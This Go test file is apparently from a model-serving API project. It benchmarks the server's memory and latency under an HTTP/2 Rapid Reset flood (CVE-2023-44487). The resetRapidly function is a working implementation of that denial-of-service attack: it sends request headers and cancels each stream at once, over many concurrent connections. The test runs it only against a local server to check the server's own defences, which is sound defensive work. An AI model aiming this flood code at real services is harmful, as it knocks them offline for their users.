package api

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/maas-kinds/maas/api/v1alpha1"
)

// flood is what the process on the other side of the wire is told to do.
type flood struct {
	// Backends is how many model backends it serves.
	Backends int
	// Target is the API to attack, host and port.
	Target string
	// Connections of HTTP/2 that send a request and take it back at once, for
	// as long as Lasts.
	Connections int
	Lasts       time.Duration
}

// floodEnv makes the test binary the other side.
const floodEnv = "MAAS_TEST_FLOOD"

// TestOtherSide is no test: it is what the benchmarks of a flood start as a
// process of its own, so that memory and time of the API are the API's alone.
// It serves backends, and attacks when it is told to.
func TestOtherSide(t *testing.T) {
	if os.Getenv(floodEnv) == "" {
		t.Skip("started by benchmarks only")
	}
	commands := bufio.NewScanner(os.Stdin)
	for commands.Scan() {
		var f flood
		if err := json.Unmarshal(commands.Bytes(), &f); err != nil {
			t.Fatal(err)
		}
		urls := []string{}
		for range f.Backends {
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if !strings.HasPrefix(r.Header.Get("Authorization"), "Bearer victim") {
					w.WriteHeader(http.StatusUnauthorized)
				}
			}))
			t.Cleanup(server.Close)
			urls = append(urls, server.URL)
		}
		sent := int64(0)
		if f.Target != "" {
			sent = f.attack(t)
		}
		answer, err := json.Marshal(map[string]any{"urls": urls, "sent": sent})
		if err != nil {
			t.Fatal(err)
		}
		_, _ = fmt.Fprintf(os.Stdout, "answer %s\n", answer)
	}
}

func (f flood) attack(t testing.TB) int64 {
	var sent atomic.Int64
	ctx, cancel := context.WithTimeout(t.Context(), f.Lasts)
	defer cancel()
	var group sync.WaitGroup
	for i := range f.Connections {
		group.Go(func() {
			for round := 0; ctx.Err() == nil; round++ {
				_ = resetRapidly(ctx, f.Target, fmt.Sprintf("%d-%d", i, round), &sent)
			}
		})
	}
	group.Wait()
	return sent.Load()
}

// resetRapidly is CVE-2023-44487: requests, each with a token of its own, that
// are taken back as soon as they are sent.
func resetRapidly(ctx context.Context, target, name string, sent *atomic.Int64) error {
	dialer := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}}
	connection, err := dialer.DialContext(ctx, "tcp", target)
	if err != nil {
		return err
	}
	defer func() { _ = connection.Close() }()
	defer context.AfterFunc(ctx, func() { _ = connection.Close() })()
	go func() { _, _ = io.Copy(io.Discard, connection) }()
	out := bufio.NewWriter(connection)
	if _, err := out.WriteString(http2.ClientPreface); err != nil {
		return err
	}
	framer := http2.NewFramer(out, nil)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for stream := uint32(1); ctx.Err() == nil && stream < 1<<30; stream += 2 {
		block.Reset()
		for _, field := range [][2]string{
			{":method", "GET"}, {":scheme", "https"}, {":authority", target}, {":path", "/v1/models"},
			{"authorization", fmt.Sprintf("Bearer flood-%s-%d", name, stream)},
		} {
			if err := encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: field[0] == "authorization"}); err != nil {
				return err
			}
		}
		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
		if err == nil {
			err = framer.WriteRSTStream(stream, http2.ErrCodeCancel)
		}
		if err != nil {
			return err
		}
		sent.Add(1)
	}
	return out.Flush()
}

// otherSide is the process on the other side.
type otherSide struct {
	in  io.Writer
	out *bufio.Scanner
}

// startOtherSide starts the process. The attacker's is nice, so that what is
// measured is the API and not how the kernel shares out the cores.
func startOtherSide(t testing.TB, nice int) *otherSide {
	t.Helper()
	command := exec.CommandContext(t.Context(), "nice", "-n", strconv.Itoa(nice), os.Args[0], "-test.run=^TestOtherSide$") //nolint:forbidigo // the other side is this test binary
	command.Env = append(os.Environ(), floodEnv+"=1")
	command.Stderr = os.Stderr
	in, err := command.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := command.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := command.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = in.Close()
		_ = command.Wait()
	})
	return &otherSide{in, bufio.NewScanner(out)}
}

// tell has the other side do something, and waits until it is done.
func (o *otherSide) tell(t testing.TB, f flood) (urls []string, sent int64) {
	t.Helper()
	line, err := json.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := fmt.Fprintf(o.in, "%s\n", line); err != nil {
		t.Fatal(err)
	}
	for o.out.Scan() {
		text, ok := strings.CutPrefix(o.out.Text(), "answer ")
		if !ok {
			continue
		}
		var answer struct {
			URLs []string
			Sent int64
		}
		if err := json.Unmarshal([]byte(text), &answer); err != nil {
			t.Fatal(err)
		}
		return answer.URLs, answer.Sent
	}
	t.Fatalf("the other side has ended: %v", o.out.Err())
	return nil, 0
}

// resident is the memory that this process has now, or had at most, in MiB.
func resident(t testing.TB, field string) float64 {
	t.Helper()
	content, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Skip("no /proc here: ", err)
	}
	for line := range strings.Lines(string(content)) {
		if value, ok := strings.CutPrefix(line, field+":"); ok {
			kib, err := strconv.ParseFloat(strings.Fields(value)[0], 64)
			if err != nil {
				t.Fatal(err)
			}
			return kib / 1024
		}
	}
	t.Fatalf("no %s in /proc/self/status", field)
	return 0
}

// processorTime is what this process has used of the cores.
func processorTime(t testing.TB) time.Duration {
	t.Helper()
	var usage syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &usage); err != nil {
		t.Fatal(err)
	}
	return time.Duration(usage.Utime.Nano() + usage.Stime.Nano())
}

// Twenty connections take requests back for five seconds; callers whom nothing
// is remembered of list all the while. Two cores (Go 1.26.8), which the attacker
// and the backends share and which were busy with other things: the numbers of
// lists and of milliseconds are rough, those of MiB and of gaps are not.
//
// Shown for 15 models, attacker at full speed: 46 MiB at rest, at most 66 MiB
// (before probes were given up and connections ended: 284 MiB).
// Shown with an attacker that leaves the cores to others (nice 19), models:
// 15: at most 63 MiB, 75 lists, none with gaps (before: 142 MiB, 2 lists, both with gaps);
// 100: at most 72 MiB, 33 lists, none with gaps (before: 123 MiB, 6 lists, 2 with gaps).
func BenchmarkRapidReset(b *testing.B) {
	for _, n := range []int{15, 100} {
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			for b.Loop() {
				attacker := startOtherSide(b, 19)
				urls, _ := startOtherSide(b, 0).tell(b, flood{Backends: n})
				var models []*v1alpha1.MaaSModel
				for i, url := range urls {
					models = append(models, model(fmt.Sprintf("a/m%03d", i), url))
				}
				o := production()
				s := benchService(b, o, models...)
				address := serveOn(b, s, o, true).address
				before := resident(b, "VmRSS")
				stop := make(chan struct{})
				var victims sync.WaitGroup
				var lists, incomplete, failed int
				var slowest time.Duration
				victims.Go(func() {
					for i := 0; ; i++ {
						select {
						case <-stop:
							return
						case <-time.After(50 * time.Millisecond):
						}
						started := time.Now()
						client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
						request, _ := http.NewRequestWithContext(b.Context(), http.MethodGet, "https://"+address+"/v1/models", nil)
						request.Header.Set("Authorization", fmt.Sprint("Bearer victim-", i))
						response, err := client.Do(request)
						if err != nil {
							failed++
							continue
						}
						body, _ := io.ReadAll(response.Body)
						_ = response.Body.Close()
						client.CloseIdleConnections()
						lists++
						slowest = max(slowest, time.Since(started))
						if strings.Count(string(body), `"object":"model"`) != n {
							incomplete++
						}
					}
				})
				highest, done := 0.0, make(chan struct{})
				var heap uint64
				go func() {
					defer close(done)
					for {
						select {
						case <-stop:
							return
						case <-time.After(50 * time.Millisecond):
							highest = max(highest, resident(b, "VmRSS"))
							var m runtime.MemStats
							runtime.ReadMemStats(&m)
							heap = max(heap, m.HeapInuse+m.StackInuse)
						}
					}
				}()
				spent := processorTime(b)
				_, sent := attacker.tell(b, flood{Target: address, Connections: 20, Lasts: 5 * time.Second})
				b.ReportMetric((processorTime(b) - spent).Seconds(), "cpu-s")
				close(stop)
				victims.Wait()
				<-done
				b.ReportMetric(before, "MiB-before")
				b.ReportMetric(highest, "MiB-peak")
				b.ReportMetric(float64(heap)/(1<<20), "MiB-inuse")
				b.ReportMetric(float64(sent), "requests-sent")
				b.ReportMetric(float64(lists), "victim-lists")
				b.ReportMetric(float64(incomplete), "victim-incomplete")
				b.ReportMetric(float64(failed), "victim-failed")
				b.ReportMetric(slowest.Seconds()*1000, "victim-slowest-ms")
			}
		})
	}
}
